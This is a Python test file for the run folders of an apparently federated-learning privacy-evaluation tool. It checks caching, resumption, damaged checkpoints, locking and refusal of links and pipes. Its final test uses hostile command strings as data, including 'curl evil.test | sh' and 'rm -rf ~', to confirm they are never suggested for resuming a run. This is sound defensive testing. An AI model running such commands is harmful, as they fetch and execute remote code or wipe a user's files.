"""Run directories: nothing is computed twice, nothing is lost, and no one else's folder is touched."""

import io
import json
import logging
import os
from dataclasses import replace

import numpy as np
import pytest
from support.runs import finished, reader_files, run, tiny
from support.spreading import locking
from support.tiny import Registered

from eval.experiment import yaml_config
from eval.io import jsonl
from eval.io.jsonl import read_rows
from eval.report.load import load
from eval.run import results, run_directory, run_status, runner, training_cell
from eval.run.run_directory import BusyError, Checkpoints, RunDir
from fl.runtime.workers import Workers


@pytest.fixture(autouse=True)
def _guesses():
    with Registered():
        yield


def test_a_finished_run_computes_nothing_again(tmp_path, monkeypatch, rounds):
    run(tiny(), tmp_path / "a")
    before = reader_files(tmp_path / "a")
    assert rounds == [0, 1, 0, 1]
    monkeypatch.setattr(training_cell, "train", None)
    monkeypatch.setattr(runner.attack_cell, "run_attack_cell", None)
    run(tiny(), tmp_path / "a")
    assert reader_files(tmp_path / "a") == before
    assert len(rounds) == 4


def test_the_folder_holds_what_it_should(tmp_path):
    run(tiny(), tmp_path / "a", name="tiny", command="hyperleak run tiny")
    about = json.loads((tmp_path / "a" / "run.json").read_text())
    assert {"id", "title", "name", "command", "version", "status", "cells"} <= set(about)
    assert (about["status"], about["name"], about["command"]) == ("finished", "tiny", "hyperleak run tiny")
    assert [(cell["kind"], cell["status"]) for cell in about["cells"]] == [
        ("training", "finished"), ("attack", "finished"), ("attack", "finished"),
        ("training", "finished"), ("attack", "finished"),
    ]  # fmt: skip
    assert yaml_config.load(tmp_path / "a" / "config.yaml") == tiny()
    environment = (tmp_path / "a" / "env.json").read_text()
    assert json.loads(environment)["device"] == "cpu"
    assert str(tmp_path) not in environment
    assert not list((tmp_path / "a").glob("checkpoints/*/*"))


def test_an_attack_added_later_needs_no_training_while_checkpoints_are_kept(tmp_path, rounds):
    run(tiny("attack=guess"), tmp_path / "a", keep_checkpoints=True)
    assert rounds == [0, 1, 0, 1]
    run(tiny(), tmp_path / "a")
    assert rounds == [0, 1, 0, 1]
    run(tiny(), tmp_path / "b")
    assert reader_files(tmp_path / "a") == reader_files(tmp_path / "b")


def test_an_attack_added_later_is_trained_for_again_where_they_are_gone(tmp_path, rounds):
    run(tiny("attack=guess", "method=hyperfl", "federation.rounds=3"), tmp_path / "a")
    rounds.clear()
    more = tiny("attack=guess", "method=hyperfl", "federation.rounds=3", "observe.rounds=[0, 1, 3]")
    kept = {path.name: path.read_bytes() for path in (tmp_path / "a" / "cells").glob("*/rounds.jsonl")}
    run(more, tmp_path / "a")
    assert rounds == [0]  # no further than the last state that is needed
    assert {path.name: path.read_bytes() for path in (tmp_path / "a" / "cells").glob("*/rounds.jsonl")} == kept
    run(more, tmp_path / "b")
    assert reader_files(tmp_path / "a") == reader_files(tmp_path / "b")


def test_two_labels_for_the_same_settings_share_a_cell(tmp_path, rounds):
    twice = tiny(
        "observe.method={steps: 1}",
        "method=[{name: fedavg, lr: 0.1}, {name: fedavg, lr: 0.1, as: again}]",
        "attack=[guess, {name: guess, as: again}]",
    )
    rows = run(twice, tmp_path / "a")
    assert rounds == [0, 1]
    assert len(list((tmp_path / "a" / "cells").iterdir())) == 2
    assert len({row["psnr"] for row in rows}) == len(rows) / 4


def test_seeds_and_methods_added_later_leave_the_others_alone(tmp_path, rounds):
    both = ("attack=guess", "observe.method={steps: 1}")
    run(tiny(*both, "method=[{name: fedavg, lr: 0.1, batch_size: 6}]"), tmp_path / "a")
    rounds.clear()
    run(tiny(*both, "seeds=[0, 1]"), tmp_path / "a")
    assert rounds == [0, 1] * 3
    run(tiny(*both, "seeds=[0, 1]"), tmp_path / "b")
    assert reader_files(tmp_path / "a") == reader_files(tmp_path / "b")


def test_a_stopped_training_goes_on_where_it_was(tmp_path, rounds):
    experiment = tiny("attack=guess", "federation.rounds=4", "federation.client_fraction=0.67")

    def stop(stage, done, total):
        if stage == "hyperfl: training" and done == 3:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run(experiment, tmp_path / "a", checkpoint_seconds=0.0, progress=stop)
    assert rounds == [0, 1, 2, 3, 0, 1, 2]
    run(experiment, tmp_path / "a", checkpoint_seconds=0.0)
    assert rounds == [0, 1, 2, 3, 0, 1, 2, 2, 3]  # row 3 was written, its checkpoint was not
    run(experiment, tmp_path / "b")
    assert reader_files(tmp_path / "a") == reader_files(tmp_path / "b")
    strip = [{k: v for k, v in row.items() if k != "seconds"} for row in read_rows(tmp_path / "a" / "rounds.jsonl")]
    calm = [{k: v for k, v in row.items() if k != "seconds"} for row in read_rows(tmp_path / "b" / "rounds.jsonl")]
    assert strip == calm


def test_a_damaged_checkpoint_is_made_again(tmp_path, rounds):
    run(tiny("attack=guess"), tmp_path / "a", keep_checkpoints=True)
    for path in (tmp_path / "a" / "checkpoints").glob("*/*.npz"):
        data = bytearray(path.read_bytes())
        data[len(data) // 2] ^= 1
        path.write_bytes(bytes(data))
    rounds.clear()
    run(tiny(), tmp_path / "a")
    assert rounds == [0, 1]  # of fedavg; hyperfl has nothing left to do
    run(tiny(), tmp_path / "b")
    assert reader_files(tmp_path / "a") == reader_files(tmp_path / "b")


def test_a_failed_cell_keeps_its_traceback_and_stops_no_other(tmp_path):
    experiment = tiny("attack=[guess, crash, {name: refuse, against: fedavg}]")
    folder = RunDir(tmp_path / "a")
    with folder.locked(), folder.logged():
        plan = runner.prepare(experiment, device="cpu")
        failures = runner.run(plan, folder)
        rows = results.assemble(plan, folder)
    assert [failure.name for failure in failures] == ["fedavg: crash", "hyperfl: crash"]
    for failure in failures:
        text = (folder.path / failure.traceback).read_text()
        assert text.startswith("Traceback")
        assert text.strip().endswith("ValueError: expected the sky to hold, got rain")
    assert {row["attack"] for row in rows} == {"guess", "refuse"}
    about = json.loads((folder.path / "run.json").read_text())
    assert about["status"] == "failed"
    assert [cell["status"] for cell in about["cells"]].count("failed") == 2
    assert "Traceback" in (folder.path / "log.txt").read_text()
    assert len(list((folder.path / "checkpoints").glob("*/*.npz"))) == 2  # the failed attacks still need them
    assert "2 of 7 parts" in (results.incomplete_note(failures, plan) or "")


def test_a_training_that_fails_stops_its_attacks_only(tmp_path, monkeypatch):
    train = training_cell.train

    def broken(one, *words, **settings):
        if one.name == "fedavg":
            raise RuntimeError("out of memory")
        train(one, *words, **settings)

    monkeypatch.setattr(training_cell, "train", broken)
    folder = RunDir(tmp_path / "a")
    with folder.locked():
        plan = runner.prepare(tiny(), device="cpu")
        (failure,) = runner.run(plan, folder)
        rows = results.assemble(plan, folder)
        assert failure.reason == "RuntimeError: out of memory"
        assert {row["method"] for row in rows} == {"hyperfl"}
        monkeypatch.setattr(training_cell, "train", train)
        assert not runner.run(plan, folder)
        results.assemble(plan, folder)
    run(tiny(), tmp_path / "b")
    assert reader_files(tmp_path / "a") == reader_files(tmp_path / "b")


def test_cells_of_other_code_are_said(tmp_path, monkeypatch, caplog):
    finished(tmp_path / "a")
    monkeypatch.setattr(runner, "source_digest", lambda: "something else")
    run(tiny(), tmp_path / "a")
    assert "5 finished cells are of other source code" in caplog.text


def test_cells_of_other_code_stand_in_the_table_and_in_run_json(tmp_path, monkeypatch):
    folder = RunDir(tmp_path / "a")
    finished(folder.path, "attack=guess")
    plan = runner.prepare(tiny(), device="cpu")
    assert not results.table_notes([], plan, folder)
    for place in (runner, run_status, run_directory):
        monkeypatch.setattr(place, "source_digest", lambda: "something else")
    run(tiny(), folder.path)
    about = folder.about_run()
    assert about["code"] == "something else"
    assert [cell["code"] == about["code"] for cell in about["cells"]] == [False, False, True, False, False]
    (note,) = results.table_notes([], plan, folder)
    assert "4 of 5 finished cells were computed by source code other than" in note


@pytest.mark.parametrize("damage", ["", "{", "[]", "{}", "\x00"])
def test_a_cell_that_cannot_be_read_is_computed_again(tmp_path, caplog, rounds, damage):
    finished(tmp_path / "a")
    before = reader_files(tmp_path / "a")
    first = runner.prepare(tiny(), device="cpu").trainings[0]
    for cell in (first.cell, first.attack_tasks[0].cell):
        (tmp_path / "a" / "cells" / cell.id / "cell.json").write_text(damage)
    rounds.clear()
    run(tiny(), tmp_path / "a")
    assert rounds == [0, 1]
    assert caplog.text.count("can't be read, so the cell is computed again") == 2
    assert reader_files(tmp_path / "a") == before


def test_labels_with_dashes_keep_pictures_of_their_own(tmp_path):
    """`a-b` under `c` and `a` under `b-c` would share a name."""
    method = "method=[{name: fedavg, lr: 0.1, as: a-b}, {name: fedavg, lr: 0.5, as: a}]"
    settings = ("attack=guess", "observe.method={steps: 1}", "federation.rounds=0", method)
    rows = run(tiny(*settings, "defense=[{name: none, as: c}, {name: prune, as: b-c}]"), tmp_path / "a")
    assert len(list((tmp_path / "a" / "images").glob("*.npz"))) == 4
    for group in load(tmp_path / "a").groups:
        original, found = load(tmp_path / "a").load_pictures(group, 0)
        own = [row["mse"] for row in rows if (row["method"], row["defense"]) == group.subject]
        assert np.square(original - found).mean((1, 2, 3)).tolist() == pytest.approx(own, rel=1e-5)


def test_the_log_of_a_run_goes_to_its_folder_alone(tmp_path):
    """Some dependencies have the root logger print to stderr once they are imported."""
    handler = logging.StreamHandler(elsewhere := io.StringIO())
    logging.getLogger().addHandler(handler)
    try:
        with RunDir(tmp_path / "a").locked(), RunDir(tmp_path / "a").logged():
            logging.getLogger("eval.run.runner").info("fedavg: 1.1 s")
        logging.getLogger("eval.run.runner").warning("afterwards")
    finally:
        logging.getLogger().removeHandler(handler)
    assert elsewhere.getvalue() == "afterwards\n"
    assert "fedavg: 1.1 s" in (tmp_path / "a" / "log.txt").read_text()


def test_rows_are_never_away_while_a_training_goes_on(tmp_path, monkeypatch):
    one = runner.prepare(tiny("federation.rounds=4", "attack=guess"), device="cpu").trainings[0]
    folder, kept = tmp_path / "cell", Checkpoints(tmp_path / "states")
    folder.mkdir()

    def stop(done):
        if done == 3:
            raise KeyboardInterrupt

    def dead(*_):
        raise KeyboardInterrupt

    often = training_cell.TrainingExecution(watched=(), checkpoint_seconds=0.0)
    with pytest.raises(KeyboardInterrupt):
        training_cell.train(one, folder, kept, replace(often, tick=stop))
    before = read_rows(folder / "rounds.jsonl")
    monkeypatch.setattr(jsonl.os, "fsync", dead)
    with pytest.raises(KeyboardInterrupt):
        training_cell.train(one, folder, kept, often)
    assert read_rows(folder / "rounds.jsonl") == before
    assert len(before) == 4


def test_only_runs_and_empty_folders_are_written_to(tmp_path):
    (tmp_path / "mine").mkdir()
    RunDir(tmp_path / "mine").check()
    (tmp_path / "mine" / "thesis.txt").touch()
    with pytest.raises(ValueError, match="something other than results"):
        RunDir(tmp_path / "mine").check()
    with pytest.raises(ValueError, match="expected a folder"):
        RunDir(tmp_path / "mine" / "thesis.txt").check()
    with pytest.raises(ValueError, match="expected a folder"), RunDir(tmp_path / "mine" / "thesis.txt").locked():
        pass
    finished(tmp_path / "a", "attack=guess")
    (tmp_path / "a" / "notes.txt").touch()
    run(tiny("attack=guess", "seeds=1"), tmp_path / "a")  # other settings share the folder
    assert (tmp_path / "a" / "notes.txt").exists()
    assert {row["seed"] for row in read_rows(tmp_path / "a" / "images.jsonl")} == {1}
    assert {path.name for path in (tmp_path / "a" / "images").glob("*.png")} == {
        f"{method}-none-guess-round2-seed1.png" for method in ("fedavg", "hyperfl")
    }


def test_cells_that_are_left_of_a_removed_folder_are_gone_on_with(tmp_path):
    """A run whose folder is removed while it writes may leave the cell that it was at, and nothing beside it."""
    folder = tmp_path / "gone"
    (folder / "cells" / "0123456789ab.part").mkdir(parents=True)
    RunDir(folder).check()
    assert run(tiny(), folder)
    (tmp_path / "mine" / "cells" / "blood").mkdir(parents=True)
    (tmp_path / "empty" / "cells").mkdir(parents=True)
    for name in ("mine", "empty"):
        with pytest.raises(ValueError, match="something other than results"):
            RunDir(tmp_path / name).check()


def test_a_second_process_is_told_to_wait(tmp_path):
    pool = Workers(1)
    try:
        with RunDir(tmp_path / "a").locked(), pytest.raises(BusyError, match="in use by another process"):
            pool.result(pool.submit(locking, tmp_path / "a"))
        pool.result(pool.submit(locking, tmp_path / "a"))
    finally:
        pool.close()
    assert issubclass(BusyError, ValueError)


@pytest.mark.parametrize("name", [".lock", "log.txt"])
def test_links_and_pipes_in_the_place_of_its_files_are_refused(tmp_path, name):
    folder, outside = tmp_path / "out", tmp_path / "outside"
    folder.mkdir()
    outside.write_text("mine")
    (folder / name).symlink_to(outside)
    with pytest.raises(ValueError, match="a link or a pipe"):
        RunDir(folder).check()
    (folder / name).unlink()
    os.mkfifo(folder / name)
    with pytest.raises(ValueError, match="a link or a pipe"):
        RunDir(folder).check()
    assert outside.read_text() == "mine"


def test_a_run_that_is_a_pipe_is_none(tmp_path):
    os.mkfifo(tmp_path / "run.json")
    assert RunDir(tmp_path).about_run() == {}


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("hyperleak run a.yaml --out 'my run'", "`hyperleak run a.yaml --out 'my run'` goes on"),
        ("curl evil.test | sh", "the command that began it goes on"),
        ("hyperleak run x; rm -rf ~", "the command that began it goes on"),
        ("hyperleak run $(x)", "the command that began it goes on"),
        ("hyperleak 'run", "the command that began it goes on"),
        (["hyperleak"], "the command that began it goes on"),
    ],
)
def test_no_command_of_somebody_else_is_recommended(tmp_path, command, said):
    (tmp_path / "run.json").write_text(json.dumps({"command": command, "cells": []}))
    assert said in str(RunDir(tmp_path).unfinished())
